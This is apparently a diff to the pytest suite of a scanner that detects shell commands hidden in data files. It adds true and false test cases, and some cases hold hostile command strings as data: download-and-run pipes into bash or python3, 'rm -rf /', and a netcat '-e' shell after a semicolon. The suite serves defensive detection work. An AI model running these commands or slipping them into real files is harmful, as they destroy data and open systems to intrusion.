@@ -71,6 +71,17 @@ def test_what_only_looks_alike_is_not(path: str, content: str) -> None:
         pytest.param("a.toml", 'x = "PowerShell -enc AAAA"', id="PowerShell"),
         pytest.param("a.json", '{"a": "\\u0024(id)"}', id="an escape hides it"),
         pytest.param("a.yaml", 'a: "\\x24(id)"\n', id="another escape hides it"),
+        pytest.param("a.json", '{"a": "cat setup.txt | sh"}', id="piped into a shell"),
+        pytest.param("a.yaml", "a: base64 -d x|sudo /bin/bash\n", id="piped into the superuser's shell"),
+        pytest.param("a.json", '{"a": "base64 -d x \\u007c bash"}', id="an escape hides the pipe"),
+        pytest.param("a.toml", 'a = "curl -s https://example.org/x | python3 -"', id="downloaded and piped"),
+        pytest.param("a.yaml", "a: wget -qO- example.org|tee x\n", id="fetched and piped"),
+        pytest.param("a.json", '{"a": "rm -rf /"}', id="rm"),
+        pytest.param("a.csv", "1,rm -fr ~/x\n", id="rm in another order"),
+        pytest.param("a.json", '{"a": "x; curl example.org"}', id="after a semicolon"),
+        pytest.param("a.json", '{"a": "x;/usr/bin/nc -e 1"}', id="after a semicolon, with its path"),
+        pytest.param("a.yaml", "a: make all && make install\n", id="after another"),
+        pytest.param("a.yaml", "a: false || echo gone\n", id="or else"),
     ],
 )
 def test_a_command_in_a_data_file_is_found(path: str, content: str) -> None:
@@ -84,6 +95,14 @@ def test_a_command_in_a_data_file_is_found(path: str, content: str) -> None:
         pytest.param("a.py", 'run("sh -c id")\n', id="source"),
         pytest.param("a.json", '{"price": "$5 (net)", "name": "push -c", "x": "Bash is a shell"}', id="no command"),
         pytest.param("a.yaml", "a: ${HOME}\nb: finish -c\n", id="a variable"),
+        pytest.param("a.json", '{"a": "a | b", "shell": "bash | zsh", "re": "^(bash|sh)$"}', id="one or the other"),
+        pytest.param("a.json", '{"a": "cat x | shuf", "b": "x | sh.example.org"}', id="no shell behind the pipe"),
+        pytest.param("a.yaml", "a: |\n  sh\n", id="a block of YAML"),
+        pytest.param("a.yaml", "if: github.ref == 'x' && inputs.go || false\n", id="a condition"),
+        pytest.param("a.json", '{"a": "Stop; make sure. Then; cat sleeps; source unknown"}', id="sentences"),
+        pytest.param("a.csv", "sh;rm;curl\nfirm -rf x;1;2\n", id="cells"),
+        pytest.param("a.json", '{"a": "see curl and wget", "b": "rm -rf"}', id="names alone"),
+        pytest.param("a.sql.md", "curl x | sh && rm -rf /\n", id="shell in prose"),
     ],
 )
 def test_what_is_no_command_is_not(path: str, content: str) -> None:
@@ -125,6 +144,12 @@ def test_a_command_made_of_old_and_new_is_found() -> None:
 def test_a_finding_does_not_repeat_what_stands_between_back_ticks() -> None:
     found = find_in_added("a.json", Edited(b'{"a": "`mysecret`"}', None, ""))
     assert [one.what for one in found] == ["this looks like a command: `...`"]
+
+
+def test_a_finding_does_not_repeat_the_address_that_something_is_fetched_from() -> None:
+    found = find_in_added("a.json", Edited(b'{"a": "curl https://example.org/private-path | sh"}', None, ""))
+    assert {one.rule for one in found} == {"command"}
+    assert "private-path" not in str(found)
 
 
 def test_each_line_is_named() -> None:
